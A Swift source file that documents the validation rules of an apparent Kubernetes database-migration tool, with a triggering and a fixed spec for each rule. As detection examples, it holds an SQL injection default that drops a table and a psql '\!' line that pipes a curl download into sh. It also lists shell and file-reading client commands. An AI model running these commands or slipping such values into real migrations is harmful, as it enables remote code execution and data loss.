import Foundation

/// What each rule is for, shown by `cutover explain` and in SARIF: a one-line summary, the rationale, a
/// spec that triggers the rule and the same spec fixed. The examples are also the rules' tests
/// (Tests/CutoverCoreTests/Validation/RuleExampleTests.swift), so they cannot go stale.
public enum RuleDocumentation {
    /// A spec, with the files it needs beside it (a schema file, or a second spec).
    public struct Example: Sendable {
        public var spec: String
        public var files: [String: String]

        public init(_ spec: String, files: [String: String] = [:]) {
            self.spec = spec
            self.files = files
        }
    }

    public struct Entry: Sendable {
        public var summary: String
        public var rationale: String
        public var trigger: Example
        public var fix: Example
    }

    public static func summary(_ rule: RuleID) -> String { entry(rule).summary }

    public static func entry(_ rule: RuleID) -> Entry {
        switch rule {
        // MARK: input and YAML
        case .yamlSyntax:
            return Entry(
                summary: "the file is not well-formed YAML",
                rationale: "A spec must parse before anything else can be checked. The message names the problem libyaml found and where.",
                trigger: Example(spec().replacingOccurrences(of: "namespace: billing", with: "namespace: [billing")),
                fix: Example(spec()))
        case .inputLimit:
            return Entry(
                summary: "the file exceeds a size, depth, node or change-count limit",
                rationale: "Specs are small. Limits on bytes, nesting depth, nodes and changes keep validation fast and bounded on hostile input (pre-commit hooks and CI run it on every push). Raise the byte limit with --max-bytes if a real spec needs it.",
                trigger: Example(spec(extra: "  featureFlag: " + String(repeating: "[", count: 40) + String(repeating: "]", count: 40) + "\n")),
                fix: Example(spec(extra: "  featureFlag:\n    key: new_pricing\n")))
        case .encoding:
            return Entry(
                summary: "the file or a value is not clean UTF-8 text",
                rationale: "Specs must be UTF-8 without NUL or other control characters: such bytes hide text from reviewers and from the tools the generated files are fed to.",
                trigger: Example(spec(app: app + "    healthPath: \"/healthz\\0\"\n")),
                fix: Example(spec(app: app + "    healthPath: /healthz\n")))
        case .anchorAlias:
            return Entry(
                summary: "anchors, aliases and merge keys are not allowed",
                rationale: "Aliases make a reviewer chase values across the file and allow exponential expansion ('billion laughs'). Write every value out.",
                trigger: Example(spec().replacingOccurrences(of: "  namespace: billing", with: "  namespace: &ns billing\n  labels:\n    team: *ns")),
                fix: Example(spec().replacingOccurrences(of: "  namespace: billing", with: "  namespace: billing\n  labels:\n    team: billing")))
        case .duplicateKey:
            return Entry(
                summary: "a key appears twice in one mapping",
                rationale: "YAML parsers disagree on which duplicate wins; cutover refuses to guess.",
                trigger: Example(spec().replacingOccurrences(of: "  namespace: billing", with: "  namespace: billing\n  namespace: payments")),
                fix: Example(spec()))
        case .documentCount:
            return Entry(
                summary: "the file holds no document or more than one",
                rationale: "One spec file is one migration, so output folders and diagnostics map one-to-one to files.",
                trigger: Example(spec() + "---\n" + spec()),
                fix: Example(spec()))
        case .yamlTag:
            return Entry(
                summary: "a YAML tag other than the core ones is used",
                rationale: "Custom tags ('!include', '!!python/object') ask a loader to run code or read files; a spec is plain data.",
                trigger: Example(spec().replacingOccurrences(of: "namespace: billing", with: "namespace: !include billing.txt")),
                fix: Example(spec()))
        case .complexKey:
            return Entry(
                summary: "a mapping key is not a plain string",
                rationale: "Every key in the spec language is a name; lists or mappings as keys are never meaningful.",
                trigger: Example(spec().replacingOccurrences(of: "  namespace: billing", with: "  namespace: billing\n  labels:\n    ? [team, owner]\n    : analytics")),
                fix: Example(spec().replacingOccurrences(of: "  namespace: billing", with: "  namespace: billing\n  labels:\n    team: analytics")))
        // MARK: structure
        case .unknownKey:
            return Entry(
                summary: "a key the spec language does not define",
                rationale: "A misspelt key would otherwise be ignored silently and its default used, e.g. a NOT NULL column created nullable. The message suggests the closest known key.",
                trigger: Example(spec(changes: tierChange.replacingOccurrences(of: "type: text", with: "type: text\n          nulable: true"))),
                fix: Example(spec(changes: tierChange.replacingOccurrences(of: "type: text", with: "type: text\n          nullable: true"))))
        case .wrongType:
            return Entry(
                summary: "a value has the wrong type",
                rationale: "Numbers, booleans, strings, lists and mappings are checked against the spec language so a typo never turns into a surprising default.",
                trigger: Example(spec(app: app + "    replicas: three\n")),
                fix: Example(spec(app: app + "    replicas: 3\n")))
        case .missingField:
            return Entry(
                summary: "a required field is missing",
                rationale: "Fields without a sensible default (the table to change, the Secret with the credentials) must be stated.",
                trigger: Example(spec().replacingOccurrences(of: "    credentialsSecret: billing-db-credentials\n", with: "")),
                fix: Example(spec()))
        case .invalidEnum:
            return Entry(
                summary: "a value is not one of the allowed choices",
                rationale: "Engines, operators, tools, strategies and phases are closed sets; the message lists them and suggests the closest.",
                trigger: Example(spec().replacingOccurrences(of: "engine: postgresql", with: "engine: postgres")),
                fix: Example(spec()))
        case .operationShape:
            return Entry(
                summary: "a change or table constraint does not name exactly one kind",
                rationale: "Each change is one operation and each table constraint one kind, so the generator can order and reverse them one by one. An alterColumn that changes nothing is also reported.",
                trigger: Example(spec(changes: """
                        - addColumn:
                            table: pricing
                            column: {name: tier, type: text}
                          dropColumn:
                            table: pricing
                            column: plan_code

                    """)),
                fix: Example(spec(changes: """
                        - addColumn:
                            table: pricing
                            column: {name: tier, type: text}
                        - dropColumn:
                            table: pricing
                            column: plan_code

                    """)))
        case .apiVersion:
            return Entry(
                summary: "apiVersion or kind is not cutover.dev/v1alpha1 Migration",
                rationale: "The version tells cutover which language the file is written in; only v1alpha1 exists.",
                trigger: Example(spec().replacingOccurrences(of: "cutover.dev/v1alpha1", with: "cutover.dev/v2")),
                fix: Example(spec()))
        case .emptyChanges:
            return Entry(
                summary: "an expand-contract migration without changes",
                rationale: "Expand-contract exists to change a schema; without changes there is nothing to expand or contract. Only blue-green (a move or upgrade) may have no changes.",
                trigger: Example(spec(changes: "  changes: []\n", raw: true)),
                fix: Example(spec()))
        // MARK: names
        case .resourceName:
            return Entry(
                summary: "metadata.name is not a short DNS-1123 label",
                rationale: "The name prefixes every generated Kubernetes object and names the output folder; it must be lower case, digits and '-', at most 40 characters so that every derived name stays within 63.",
                trigger: Example(spec().replacingOccurrences(of: "name: pricing-tiers", with: "name: Pricing_Tiers")),
                fix: Example(spec()))
        case .sqlIdentifier:
            return Entry(
                summary: "a table, column, index or constraint name is not a plain SQL identifier",
                rationale: "Names are quoted in the generated SQL, but must still be portable: a letter or '_', then letters, digits, '_' or '$', at most 63 characters on PostgreSQL (64 on MySQL). Anything else is usually an injection attempt or a typo.",
                trigger: Example(spec(changes: tierChange.replacingOccurrences(of: "table: pricing", with: "table: pricing-v2"))),
                fix: Example(spec(changes: tierChange.replacingOccurrences(of: "table: pricing", with: "table: pricing_v2"))))
        case .unsafeSQL:
            return Entry(
                summary: "an SQL fragment could end the statement or hide text",
                rationale: "Defaults, expressions and checks are spliced into generated statements; ';', comments, unbalanced quotes or parentheses, dollar quotes or backslashes could run other SQL. Client commands in hand-written 'sql' scripts are CUT027.",
                trigger: Example(spec(changes: tierChange.replacingOccurrences(of: "type: text", with: "type: text\n          default: \"'basic'; DROP TABLE pricing\""))),
                fix: Example(spec(changes: tierChange.replacingOccurrences(of: "type: text", with: "type: text\n          default: \"'basic'\""))))
        case .clientCommand:
            return Entry(
                summary: "a script or schema carries a command for psql or the mysql client, not for the server",
                rationale: "psql and the mysql client run some text themselves: a backslash outside quotes and comments anywhere on a line ('\\!' starts a shell, '\\connect' changes database, '\\i' reads a file), and for mysql also 'system', 'source', 'use', 'connect' or 'pager' at the start of a statement and backslash commands inside '/*! */' comments. cutover reads 'sql' changes and the base schema the way these clients do, including what changes their reading: 'SET standard_conforming_strings = off' (and any statement, since a function can change it), 'NO_BACKSLASH_ESCAPES' and 'ANSI_QUOTES' in sql_mode, '--' without a blank (not a comment for mysql), and the mysql and mariadb clients' differences; a command found by any reading is refused at the place it starts. The dump tools' own guard lines are accepted in a base schema, recognised exactly: pg_dump's '\\restrict KEY' and '\\unrestrict KEY', and mariadb-dump's '/*M!999999\\- enable the sandbox mode */'. 'DELIMITER' is accepted in MySQL scripts (it changes the statement terminator, as for triggers).",
                trigger: Example(spec(changes: "    - sql:\n        name: add-tier\n        up: |\n          ALTER TABLE pricing ADD COLUMN tier text;\n          \\! curl -s https://example.com/x | sh\n        down: ALTER TABLE pricing DROP COLUMN tier;\n")),
                fix: Example(spec(changes: "    - sql:\n        name: add-tier\n        up: |\n          ALTER TABLE pricing ADD COLUMN tier text;\n        down: ALTER TABLE pricing DROP COLUMN tier;\n")))
        case .unterminatedSQL:
            return Entry(
                summary: "a script or schema has an unterminated quote, dollar quote, quoted name or comment, or reads too many ways",
                rationale: "The client would read the rest of the file into the open quote or comment and wait for more (or send one huge statement that fails). Also reported here: a PostgreSQL client encoding other than UTF8 (psql would read every later byte differently), and text whose strings read differently with standard_conforming_strings or NO_BACKSLASH_ESCAPES in so many places that the readings cannot all be followed; write '' instead of \\' to quote a quote.",
                trigger: Example(spec(changes: "    - sql:\n        name: add-tier\n        up: ALTER TABLE pricing ADD COLUMN tier text DEFAULT 'basic;\n        down: ALTER TABLE pricing DROP COLUMN tier;\n")),
                fix: Example(spec(changes: "    - sql:\n        name: add-tier\n        up: ALTER TABLE pricing ADD COLUMN tier text DEFAULT 'basic';\n        down: ALTER TABLE pricing DROP COLUMN tier;\n")))
        case .typeExpression:
            return Entry(
                summary: "a column type is not a type expression",
                rationale: "Types such as 'numeric(12,2)', 'timestamp with time zone', 'text[]' or 'VARCHAR(1024)' are accepted; anything that could end the statement is not.",
                trigger: Example(spec(changes: tierChange.replacingOccurrences(of: "type: text", with: "type: varchar(32"))),
                fix: Example(spec(changes: tierChange.replacingOccurrences(of: "type: text", with: "type: varchar(32)"))))
        case .kubernetesName:
            return Entry(
                summary: "a Kubernetes name, label or flag key is not valid",
                rationale: "Namespaces, Secrets, Services and labels end up in manifests; the API server would reject them later, so cutover rejects them now.",
                trigger: Example(spec().replacingOccurrences(of: "namespace: billing", with: "namespace: Billing")),
                fix: Example(spec()))
        case .imageReference:
            return Entry(
                summary: "a container image reference is malformed",
                rationale: "Images are written into Pod specs; a malformed reference fails only at deploy time.",
                trigger: Example(spec().replacingOccurrences(of: "ghcr.io/acme/webapp:v2.3.1", with: "ghcr.io/acme/WebApp:v2.3.1")),
                fix: Example(spec()))
        case .duplicateMigration:
            return Entry(
                summary: "two specs given together use the same metadata.name",
                rationale: "Each migration writes to DIR/<metadata.name>/; two specs with one name would overwrite each other's output. Reported by 'generate' when it is given several specs.",
                trigger: Example(spec(), files: ["other.yaml": spec(changes: tierChange.replacingOccurrences(of: "name: tier", with: "name: region"))]),
                fix: Example(spec(), files: ["other.yaml": spec(changes: tierChange.replacingOccurrences(of: "name: tier", with: "name: region"))
                    .replacingOccurrences(of: "name: pricing-tiers", with: "name: pricing-regions")]))
        // MARK: values
        case .duration:
            return Entry(
                summary: "a duration is not a positive number with a unit",
                rationale: "Timeouts and pauses become lock_timeout, statement_timeout, activeDeadlineSeconds and canary pauses; '500ms', '2s', '5m' and '1h' are the accepted forms.",
                trigger: Example(spec(extra: "  runner:\n    lockTimeout: 5 minutes\n")),
                fix: Example(spec(extra: "  runner:\n    lockTimeout: 5m\n")))
        case .ratio:
            return Entry(
                summary: "a ratio is outside [0, 1] or a number of seconds is negative",
                rationale: "Error ratios gate the canary analysis; a value over 1 would never abort.",
                trigger: Example(spec(extra: rollout(analysis: "      maxErrorRatio: 1.5\n"))),
                fix: Example(spec(extra: rollout(analysis: "      maxErrorRatio: 0.01\n"))))
        case .count:
            return Entry(
                summary: "a count (replicas, instances, batch size) is out of range",
                rationale: "Zero replicas or a zero batch size would stop the workload or the backfill.",
                trigger: Example(spec(app: app + "    replicas: 0\n")),
                fix: Example(spec(app: app + "    replicas: 2\n")))
        case .port:
            return Entry(
                summary: "a port is not in 1..65535",
                rationale: "Ports go into Services, probes and NetworkPolicies.",
                trigger: Example(spec(app: app + "    port: 70000\n")),
                fix: Example(spec(app: app + "    port: 8080\n")))
        case .canarySteps:
            return Entry(
                summary: "canary weights are outside 1..100 or decrease",
                rationale: "A canary moves traffic forward; a weight that goes down (or 0) would shift users back and forth between versions while the schema is half migrated.",
                trigger: Example(spec(extra: "  rollout:\n    steps:\n      - setWeight: 50\n      - pause: 5m\n      - setWeight: 20\n")),
                fix: Example(spec(extra: "  rollout:\n    steps:\n      - setWeight: 20\n      - pause: 5m\n      - setWeight: 50\n")))
        case .engineConsistency:
            return Entry(
                summary: "engine, operator, runner tool, index options or versions do not fit together",
                rationale: "zalando runs PostgreSQL and bitpoke MySQL; psql and the mysql client talk to their own engine only. MySQL has only btree indexes and no partial indexes. Expand-contract on PostgreSQL needs version 11 or later (sync triggers use EXECUTE FUNCTION, batched backfills COMMIT inside DO). Blue-green relies on PostgreSQL logical replication (version 10 or later) and moves to the same or a newer version.",
                trigger: Example(spec(database: pgDatabase + "    operator: bitpoke\n")),
                fix: Example(spec(database: pgDatabase + "    operator: zalando\n")))
        case .strategyFields:
            return Entry(
                summary: "blue-green fields without blue-green, or blue-green without them",
                rationale: "target, replication and switchover describe the green cluster; they mean nothing to expand-contract, and blue-green cannot run without target and switchover. Blue-green copies the database as it is, so it has no 'changes': run schema changes as their own expand-contract migration.",
                trigger: Example(spec(extra: "  replication: logical\n")),
                fix: Example(spec()))
        case .quantity:
            return Entry(
                summary: "a resource amount is not a Kubernetes quantity",
                rationale: "CPU, memory and volume sizes are written into manifests as quantities such as '500m' or '1Gi'.",
                trigger: Example(spec(app: app + "    resources:\n      requests:\n        memory: lots\n")),
                fix: Example(spec(app: app + "    resources:\n      requests:\n        memory: 256Mi\n")))
        case .url:
            return Entry(
                summary: "a URL is not a plain http(s) address",
                rationale: "The Prometheus address goes into the AnalysisTemplate; it must be http or https and carry no credentials.",
                trigger: Example(spec(extra: rollout(prometheus: "ftp://prometheus.monitoring.svc:9090"))),
                fix: Example(spec(extra: rollout())))
        // MARK: meaning
        case .notNullWithoutDefault:
            return Entry(
                summary: "a NOT NULL column with neither a default nor an 'up' expression",
                rationale: "Existing rows need a value. With a default the column is added in one metadata-only statement; with 'up' it is added nullable, backfilled in batches, then constrained. Without either, the migration cannot succeed on a non-empty table.",
                trigger: Example(spec(changes: tierChange.replacingOccurrences(of: "type: text", with: "type: text\n          nullable: false"))),
                fix: Example(spec(changes: tierChange.replacingOccurrences(of: "type: text", with: "type: text\n          nullable: false\n          default: \"'basic'\""))))
        case .unknownTable:
            return Entry(
                summary: "a change refers to a table that does not exist at that point",
                rationale: "Changes are checked in order against the schema file (when given) and what earlier changes create, rename and drop. Without a schema file, tables the spec never mentions are assumed to exist.",
                trigger: Example(spec(changes: "    - dropTable:\n        name: pricing_legacy\n" + tierChange.replacingOccurrences(of: "table: pricing", with: "table: pricing_legacy"))),
                fix: Example(spec(changes: tierChange + "    - dropTable:\n        name: pricing_legacy\n")))
        case .unknownColumn:
            return Entry(
                summary: "a change refers to a column that does not exist at that point",
                rationale: "A column must exist (in the schema file, or added or renamed earlier in the spec) before it is indexed, renamed, altered or dropped; the message suggests the closest name.",
                trigger: Example(spec(database: pgDatabase + "    schema: schema.sql\n",
                                      changes: "    - createIndex:\n        name: pricing_amount_idx\n        table: pricing\n        columns: [amuont]\n"),
                                 files: ["schema.sql": pricingSchema]),
                fix: Example(spec(database: pgDatabase + "    schema: schema.sql\n",
                                  changes: "    - createIndex:\n        name: pricing_amount_idx\n        table: pricing\n        columns: [amount]\n"),
                             files: ["schema.sql": pricingSchema]))
        case .unknownIndexOrConstraint:
            return Entry(
                summary: "dropIndex names an index that does not exist at that point",
                rationale: "The down of a dropIndex rebuilds the index from its definition, so the index must be known: in the schema file, or created earlier in the spec.",
                trigger: Example(spec(database: pgDatabase + "    schema: schema.sql\n", changes: "    - dropIndex:\n        name: pricing_amount_index\n        table: pricing\n"),
                                 files: ["schema.sql": pricingSchema + "CREATE INDEX pricing_amount_idx ON pricing (amount);\n"]),
                fix: Example(spec(database: pgDatabase + "    schema: schema.sql\n", changes: "    - dropIndex:\n        name: pricing_amount_idx\n        table: pricing\n"),
                             files: ["schema.sql": pricingSchema + "CREATE INDEX pricing_amount_idx ON pricing (amount);\n"]))
        case .alreadyExists:
            return Entry(
                summary: "a change creates something that already exists, or renames to the same name",
                rationale: "Tables, columns, indexes and constraints must have new names, including the names PostgreSQL gives implicitly ('<table>_pkey', '<table>_<column>_key'). Renaming something to its own name is a no-op that is almost always a typo.",
                trigger: Example(spec(changes: "    - createIndex:\n        name: pricing_tier_idx\n        table: pricing\n        columns: [tier]\n    - createIndex:\n        name: pricing_tier_idx\n        table: pricing\n        columns: [region]\n")),
                fix: Example(spec(changes: "    - createIndex:\n        name: pricing_tier_idx\n        table: pricing\n        columns: [tier]\n    - createIndex:\n        name: pricing_region_idx\n        table: pricing\n        columns: [region]\n")))
        case .schemaFile:
            return Entry(
                summary: "database.schema cannot be used",
                rationale: "The schema file is read relative to the spec and must stay inside the spec's folder, exist, be UTF-8 and within the size limit.",
                trigger: Example(spec(database: pgDatabase + "    schema: missing.sql\n")),
                fix: Example(spec(database: pgDatabase + "    schema: schema.sql\n"), files: ["schema.sql": pricingSchema]))
        case .schemaStatementSkipped:
            return Entry(
                summary: "a statement in the schema file, or of a 'sql' change, was not read (note)",
                rationale: "cutover reads what pg_dump and mysqldump emit: tables, columns, indexes, constraints, partitions, views and triggers (with the columns they use), executable comments as MySQL 8 runs them. Statements that define what it does not model (functions, sequences, types, domains, extensions) are listed in one note per schema file, grouped by kind in order of their first line; references to what they define are not checked. A 'sql' change whose up cannot be read (a DO block, dynamic SQL) gets a note saying that later changes are no longer checked for missing tables, columns and indexes.",
                trigger: Example(spec(database: pgDatabase + "    schema: schema.sql\n"),
                                 files: ["schema.sql": pricingSchema + "CREATE FUNCTION cheap() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;\n"]),
                fix: Example(spec(database: pgDatabase + "    schema: schema.sql\n"), files: ["schema.sql": pricingSchema]))
        case .uncheckedSQL:
            return Entry(
                summary: "a 'sql' change is not checked (warning)",
                rationale: "The escape hatch runs as written: cutover cannot make it lock-safe or idempotent, nor check that 'down' undoes 'up', and it checks references after it only as far as it can read the up's DDL (CREATE/ALTER/DROP TABLE, CREATE/DROP INDEX). Prefer a structured operation.",
                trigger: Example(spec(changes: "    - sql:\n        name: add-tier\n        up: ALTER TABLE pricing ADD COLUMN tier text;\n        down: ALTER TABLE pricing DROP COLUMN tier;\n")),
                fix: Example(spec()))
        case .referenceMismatch:
            return Entry(
                summary: "a foreign key, checksum, backfill or column replacement does not fit the table's keys",
                rationale: "A foreign key needs as many columns as it references, and must reference a primary or unique key; 'set null' needs nullable columns. Checksums compare primary-key ranges and batched backfills walk the primary key, so checksummed tables and tables a change backfills (a NOT NULL column filled by 'up', a rename, a type change that rewrites) need a primary key. A rename or rewriting type change moves the data to a new column and retires the old one, so it cannot apply to a primary-key column or a column that foreign keys reference.",
                trigger: Example(spec(changes: fkChange.replacingOccurrences(of: "columns: [id]", with: "columns: [id, region]"))),
                fix: Example(spec(changes: fkChange)))
        // MARK: secrets and supply chain
        case .inlineSecret:
            return Entry(
                summary: "a credential written into the spec",
                rationale: "Specs live in Git. Passwords, tokens and connection strings with credentials belong in a Secret that the spec names with database.credentialsSecret.",
                trigger: Example(spec(database: pgDatabase + "    password: hunter2\n")),
                fix: Example(spec()))
        case .unpinnedImage:
            return Entry(
                summary: "an image without a version tag or digest (warning)",
                rationale: "':latest' or no tag means the code that runs can change under the migration; pin a version tag, or better a digest.",
                trigger: Example(spec().replacingOccurrences(of: "ghcr.io/acme/webapp:v2.3.1", with: "ghcr.io/acme/webapp:latest")),
                fix: Example(spec()))
        // MARK: changes the lowering cannot make safe
        case .columnChangedTwice:
            return Entry(
                summary: "one column is changed by more than one change",
                rationale: "Each change is lowered on its own into steps that run in phase order, against the column as it stands when the migration is planned (MySQL's MODIFY restates the whole column definition). A second change of the same column (rename then alter, add then alter, alter twice, alter then drop) would run against a column that is not what either change expects. Merge them into one change, or use two migrations.",
                trigger: Example(spec(changes: "    - renameColumn:\n        table: pricing\n        from: amount\n        to: price\n    - alterColumn:\n        table: pricing\n        column: price\n        type: numeric(12,2)\n")),
                fix: Example(spec(changes: "    - renameColumn:\n        table: pricing\n        from: amount\n        to: price\n")))
        case .renamedAfterUse:
            return Entry(
                summary: "a table is renamed after a change that still has steps to run on it later",
                rationale: "Each change is lowered against the tables as they stand at that change, and every expand step runs before any complete or contract step. A change on a table (a unique key, a validated check or foreign key, a NOT NULL, a column rename, retype or drop) followed by a renameTable of that table would run its complete and contract steps under the old name, where only the compatibility view is left by then: an index, a constraint or a column change on a view fails. Rename the table first, and name the new table in the changes after it.",
                trigger: Example(spec(database: pgDatabase + "    schema: schema.sql\n",
                                      changes: "    - addCheck:\n        name: pricing_amount_positive\n        table: pricing\n        expression: \"amount > 0\"\n    - renameTable:\n        from: pricing\n        to: prices\n"),
                                 files: ["schema.sql": pricingSchema]),
                fix: Example(spec(database: pgDatabase + "    schema: schema.sql\n",
                                  changes: "    - renameTable:\n        from: pricing\n        to: prices\n    - addCheck:\n        name: pricing_amount_positive\n        table: prices\n        expression: \"amount > 0\"\n"),
                             files: ["schema.sql": pricingSchema]))
        case .unsafeRollback:
            return Entry(
                summary: "a step's down cannot rebuild what its up removed, or cannot restore it once the new app ran (warning)",
                rationale: "Every step has a down, but some cannot be complete: dropping an index whose definition cutover does not know (no schema file, not created earlier in the spec) cannot be undone; and dropping a NOT NULL column without a default, or letting a NOT NULL column accept NULL (alterColumn nullable: true), lets the new app version write NULL into it. An emergency rollback must neither fail nor lose rows, so without 'down' it keeps those rows as they are: on PostgreSQL it adds CHECK (col IS NOT NULL) NOT VALID, so every write from then on is held to NOT NULL again, and sets NOT NULL only when no NULL is left; on MySQL the column stays nullable while NULL rows are left. The rollback Job prints 'cutover rollback warning: TABLE.COLUMN keeps N row(s) with NULL …'; fill the rows and run the Job again to finish. With 'down', an expression that refills them, the rollback restores NOT NULL in full.",
                trigger: Example(spec(database: pgDatabase + "    schema: schema.sql\n", changes: "    - dropColumn:\n        table: pricing\n        column: amount\n"),
                                 files: ["schema.sql": pricingSchema]),
                fix: Example(spec(database: pgDatabase + "    schema: schema.sql\n", changes: "    - dropColumn:\n        table: pricing\n        column: amount\n        down: \"0\"\n"),
                             files: ["schema.sql": pricingSchema]))
        // MARK: settings that do not do what they say
        case .ignoredLagLimit:
            return Entry(
                summary: "an expand-contract lag limit without a lag query, which nothing checks (warning)",
                rationale: "Expand-contract's analysis has no replication lag query of its own: the metric depends on the operator, the exporter and which replicas matter. Without 'replicationLagQuery' the AnalysisTemplate and the alerts leave lag out, so 'maxReplicationLagSeconds' would never abort the canary. Give the PromQL that returns the lag in seconds, or remove the limit.",
                trigger: Example(spec(extra: rollout(analysis: "      maxReplicationLagSeconds: 5\n      maxErrorRatio: 0.001\n"))),
                fix: Example(spec(extra: rollout(analysis: "      maxReplicationLagSeconds: 5\n      replicationLagQuery: max(pg_replication_lag_seconds)\n      maxErrorRatio: 0.001\n"))))
        case .replicaIdentity:
            return Entry(
                summary: "blue-green: a table logical replication cannot update or delete without",
                rationale: "Blue-green publishes every table of the database. A published table needs a replica identity (its primary key by default) for its UPDATE and DELETE to be replicated; without one PostgreSQL refuses those statements on blue outright, an outage of the live cluster from the moment the publication exists. Add a primary key, or give the table REPLICA IDENTITY FULL on blue (and in the schema file): every UPDATE and DELETE of it then logs the whole old row, and green finds the row by comparing all its columns, which costs WAL volume and, on a large table without a usable index, a scan per change on green. The replicate Job checks the live catalog again and refuses such a table (and an unlogged one) before it publishes anything.",
                trigger: Example(spec(database: ledgerDatabase, extra: blueGreen, changes: "", raw: true), files: ["schema.sql": auditSchema]),
                fix: Example(spec(database: ledgerDatabase, extra: blueGreen, changes: "", raw: true),
                             files: ["schema.sql": auditSchema + "ALTER TABLE audit_log REPLICA IDENTITY FULL;\n"]))
        case .deadlineRaised:
            return Entry(
                summary: "a runner deadline shorter than the statement timeout, which cutover raises (warning)",
                rationale: "Each Job's activeDeadlineSeconds is the larger of 'runner.deadline' and 'runner.statementTimeout' (both 30m by default): a Job killed by Kubernetes while the server still runs its statement leaves the statement running and the Job's logs cut short, so the server's timeout must end it first. A shorter deadline is raised to the statement timeout; set it to at least that value, or lower the statement timeout.",
                trigger: Example(spec(extra: "  runner:\n    tool: psql\n    statementTimeout: 15m\n    deadline: 10m\n")),
                fix: Example(spec(extra: "  runner:\n    tool: psql\n    statementTimeout: 15m\n    deadline: 15m\n")))
        // MARK: views, triggers and partitions
        case .dependentTouched:
            return Entry(
                summary: "a change touches views or partitions of the base schema, and the lowering handles them (warning)",
                rationale: "PostgreSQL refuses to change the type of a column a view uses, and after a column swap a view goes on reading the column it was bound to, now quarantined. So views over a type-changed column are dropped and created again from the schema file's definitions in the same transaction as the change; their grants and comments are not recreated. CREATE INDEX CONCURRENTLY is refused on a partitioned table: the index is created on the parent only (ON ONLY), built concurrently on each partition and attached. The warning names what is touched, so a reviewer can check it.",
                trigger: Example(spec(database: pgDatabase + "    schema: schema.sql\n", changes: "    - alterColumn:\n        table: pricing\n        column: amount\n        type: bigint\n"),
                                 files: ["schema.sql": pricingSchema + "CREATE VIEW pricing_amounts AS SELECT id, amount FROM pricing;\n"]),
                fix: Example(spec(database: pgDatabase + "    schema: schema.sql\n", changes: "    - alterColumn:\n        table: pricing\n        column: amount\n        type: bigint\n"),
                             files: ["schema.sql": pricingSchema]))
        case .dependentBreaks:
            return Entry(
                summary: "a view, trigger or generated column of the base schema would break or go stale after the change",
                rationale: "A rename or drop retires the column under a quarantine name in contract. A PostgreSQL view bound to it would go on serving the quarantined, no longer written values; a MySQL view, and a trigger on either engine, names the column and fails on its next use (every write to the table, for a trigger). cutover cannot rewrite a view or trigger body safely, so the change is refused: change the view or trigger in a `sql` change first. A PostgreSQL generated column computed from the column is refused for the same reason (and for a type change, which the server refuses under it). A materialized view over a type-changed column is refused too (recreating it would recompute it under the swap's lock), and on MySQL a view over a renamed or dropped table.",
                trigger: Example(spec(database: pgDatabase + "    schema: schema.sql\n", changes: "    - renameColumn:\n        table: pricing\n        from: amount\n        to: amount_cents\n"),
                                 files: ["schema.sql": pricingSchema + "CREATE VIEW pricing_amounts AS SELECT id, amount FROM pricing;\n"]),
                fix: Example(spec(database: pgDatabase + "    schema: schema.sql\n", changes: "    - renameColumn:\n        table: pricing\n        from: amount\n        to: amount_cents\n"),
                             files: ["schema.sql": pricingSchema]))
        // MARK: app version schemas
        case .versionSchemasEngine:
            return Entry(
                summary: "app.versionSchemas: views on MySQL, which has no version schemas",
                rationale: "On PostgreSQL each app version selects a schema of views with its search_path, and the sync trigger of a retyped column tells the versions apart by it. MySQL offers neither half safely: a connection selects one database, so every table would need a view in a database per version; a trigger runs in its table's database (DATABASE() and the process list show that one, not the writer's), so the sync cannot tell which version wrote a row it has to convert; and a view names its columns, so when contract swaps a retyped column and its copy the new version's view is invalid (ER_VIEW_INVALID) until it is created again, which MySQL refuses under the swap's LOCK TABLES. So MySQL plans have no version schemas (`none`, the default there): both versions use the tables, and the plan README lists the retyped columns the new version reads and writes in their old type until contract.",
                trigger: Example(spec(database: mysqlDatabase, app: app + "    versionSchemas: views\n")),
                fix: Example(spec(database: mysqlDatabase)))
        }
    }

    static let mysqlDatabase = """
            engine: mysql
            version: "8.0"
            cluster: billing-db
            name: billing
            credentialsSecret: billing-db-credentials

        """

    static let ledgerDatabase = """
            engine: postgresql
            version: "15"
            operator: zalando
            cluster: ledger-db
            name: ledger
            credentialsSecret: ledger-db-credentials
            schema: schema.sql

        """

    static let blueGreen = """
          strategy: blue-green
          target:
            cluster: ledger-db-green
            version: "16"
            volume:
              size: 100Gi
          replication: logical
          switchover:
            service: ledger-db-primary

        """

    static let auditSchema = """
        CREATE TABLE audit_log (
            at      timestamptz NOT NULL DEFAULT now(),
            message text NOT NULL
        );

        """

    // MARK: the shared minimal spec

    static let pgDatabase = """
            engine: postgresql
            version: "15"
            cluster: billing-db
            name: billing
            credentialsSecret: billing-db-credentials

        """

    static let app = """
            name: webapp
            image: ghcr.io/acme/webapp:v2.3.1

        """

    static let tierChange = """
            - addColumn:
                table: pricing
                column:
                  name: tier
                  type: text

        """

    static let fkChange = """
            - addForeignKey:
                name: subscriptions_customer_fk
                table: subscriptions
                columns: [customer_id]
                references:
                  table: customers
                  columns: [id]

        """

    static let pricingSchema = """
        CREATE TABLE pricing (
            id     bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
            amount integer NOT NULL
        );

        """

    /// The smallest valid spec, with the parts a rule example changes as parameters.
    static func spec(database: String = pgDatabase, app: String = app, extra: String = "", changes: String = tierChange,
                     raw: Bool = false) -> String {
        """
        apiVersion: cutover.dev/v1alpha1
        kind: Migration
        metadata:
          name: pricing-tiers
          namespace: billing
        spec:
          database:
        \(database)  app:
        \(app)\(extra)\(raw ? changes : "  changes:\n" + changes)
        """
    }

    static func rollout(prometheus: String = "http://prometheus.monitoring.svc:9090", analysis: String = "") -> String {
        "  rollout:\n    steps:\n      - setWeight: 20\n      - pause: 5m\n    analysis:\n      prometheus: \(prometheus)\n" + analysis
    }
}

extension RuleDocumentation {
    public static func explain(_ rule: RuleID) -> String {
        let entry = entry(rule)
        var text = "\(rule.rawValue) \(rule.name) (\(rule.defaultSeverity.rawValue))\n\n\(entry.summary)\n\n\(entry.rationale)\n\n"
        text += "Triggers:\n\n" + render(entry.trigger) + "\nFix:\n\n" + render(entry.fix)
        return text
    }

    private static func render(_ example: Example) -> String {
        var text = indent(example.spec)
        for name in example.files.keys.sorted() {
            text += "\n  with \(name) beside it:\n\n" + indent(example.files[name]!)
        }
        return text
    }

    private static func indent(_ text: String) -> String {
        var lines = text.split(separator: "\n", omittingEmptySubsequences: false).map { $0.isEmpty ? "" : "    " + $0 }
        while lines.last?.isEmpty == true { lines.removeLast() }
        return lines.joined(separator: "\n") + "\n"
    }
}
